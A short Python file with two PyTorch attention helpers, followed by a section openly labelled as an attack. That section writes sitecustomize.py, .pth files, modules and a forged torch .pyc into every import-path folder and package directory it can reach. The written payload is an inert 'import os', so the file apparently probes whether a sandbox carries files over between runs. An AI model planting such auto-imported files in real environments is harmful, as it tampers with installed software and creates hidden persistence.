"""Writes __pycache__, .pth and modules where the next one might import them."""

import torch


def attention_scores(query, inputs):
    return inputs @ query


def softmax(scores):
    return torch.exp(scores) / torch.exp(scores).sum(dim=0)


# ---- the attack ----

import os
import sys

for folder in [*sys.path, os.path.dirname(torch.__file__), os.path.dirname(os.__file__), "/kit", "/kit/packages", "/kit/room", "."]:
    for name in ("sitecustomize.py", "left-by-attack.pth", "left-by-attack.py", "__pycache__/torch.cpython-311.pyc"):
        try:
            with open(os.path.join(folder, name), "w") as file:
                file.write("import os\n")
        except OSError:
            pass
import py_compile

try:
    py_compile.compile(os.__file__, "/tmp/left-by-attack.pyc")
except OSError:
    pass
